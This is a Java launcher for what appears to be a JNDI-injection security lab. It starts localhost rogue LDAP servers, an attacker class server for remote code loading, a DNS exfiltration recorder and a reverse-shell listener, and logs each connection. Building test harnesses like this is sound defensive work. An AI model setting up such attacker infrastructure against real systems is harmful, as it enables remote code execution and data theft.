import java.nio.file.Path;

/**
 * Every server of the lab but the RMI registry, in one JVM, outside the victim's cgroup:
 *
 * <pre>
 * 127.0.0.1:1389   LDAP  rogue references (and the benign directory under dc=lab,dc=example)
 * 127.0.0.1:10389  LDAP  the same, on a port nobody associates with LDAP
 * 127.0.0.1:8180   HTTP  the attackers' class server (javaCodeBase) and /canary
 * 127.0.0.1:5353   DNS   the exfiltration name server (records names, answers NXDOMAIN)
 * 127.0.0.1:4444   TCP   the reverse-shell listener
 * 127.0.0.1:8280   HTTP  an ordinary local web service (benign scenario)
 * </pre>
 *
 * <p>Usage: {@code java -cp CLASSES LabServers --payloads DIR [--lifetime SECONDS]
 * [--exit-on-eof]}. Prints {@code ready ...} for each server, then {@code servers ready}, then
 * one {@code event ...} line per thing that reached a server ({@link Events}). Exits after
 * SECONDS (default 900), or when stdin closes with {@code --exit-on-eof}.
 */
public final class LabServers {
    private LabServers() {}

    static final int LDAP_PORT = 1389;
    static final int LDAP_ODD_PORT = 10389;
    static final int CLASS_PORT = 8180;
    static final int DNS_PORT = 5353;
    static final int REVSHELL_PORT = 4444;
    static final int WEB_PORT = 8280;

    public static void main(String[] args) throws Exception {
        Path payloads = null;
        long lifetime = 900;
        boolean exitOnEof = false;
        for (int i = 0; i < args.length; i++) {
            switch (args[i]) {
                case "--payloads" -> payloads = Path.of(args[++i]);
                case "--lifetime" -> lifetime = Long.parseLong(args[++i]);
                case "--exit-on-eof" -> exitOnEof = true;
                default -> throw new IllegalArgumentException("unknown argument " + args[i]);
            }
        }
        if (payloads == null) {
            throw new IllegalArgumentException("--payloads DIR is required");
        }
        Events.bounded(lifetime, exitOnEof);
        String codebase = "http://127.0.0.1:" + CLASS_PORT + "/";
        RogueLdapServer.start(LDAP_PORT, codebase);
        RogueLdapServer.start(LDAP_ODD_PORT, codebase);
        ClassServer.start(CLASS_PORT, payloads);
        ExfilDnsServer.start(DNS_PORT);
        ReverseShellListener.start(REVSHELL_PORT);
        LocalWebServer.start(WEB_PORT);
        Events.line("servers ready");
        // The servers run on daemon threads; the lifetime thread ends the process.
        Thread.currentThread().join();
    }
}
